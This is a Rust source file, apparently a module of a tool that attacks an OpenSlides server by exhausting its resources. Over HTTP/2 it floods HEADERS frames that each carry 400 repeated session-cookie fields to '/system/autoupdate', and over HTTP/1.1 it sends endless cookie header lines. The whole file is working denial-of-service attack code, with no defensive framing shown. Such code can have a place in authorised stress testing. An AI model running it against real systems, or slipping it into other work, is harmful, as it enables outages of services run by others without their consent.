//! Cookies without end, over both versions of HTTP.

use super::super::attacker::Attacker;
use super::super::ends::Ends;
use super::super::frames::{END_HEADERS, END_STREAM, HEADERS, field, frame, request};
use super::super::http2::{Connection, id};
use super::header_list::endless;

/// How many cookies one request over HTTP/2 has: each is a field of its own, of which only the last counts.
const COOKIES: usize = 400;

/// Sends cookie after cookie over HTTP/1.1, and requests with as many as fit over HTTP/2.
pub(super) async fn attack(attacker: &Attacker) -> Ends {
    let half = Attacker { count: attacker.count.div_ceil(2), ..attacker.clone() };
    let http2 = half.with_each(|attacker, stream| async move {
        let connection = Connection::begin(attacker, stream, &[]).await;
        let block = [request("GET", "/system/autoupdate"), field("cookie", "OpenSlidesSessionID=x").repeat(COOKIES)];
        let block = block.concat();
        connection.flood(|index| frame(HEADERS, END_STREAM | END_HEADERS, id(index), &block)).await
    });
    let http1 = half.with_each(|attacker, stream| endless(attacker, stream, "Cookie: a=b; OpenSlidesSessionID=x\r\n"));
    let (mut ends, http1) = tokio::join!(http2, http1);
    ends.merge(http1);
    ends
}
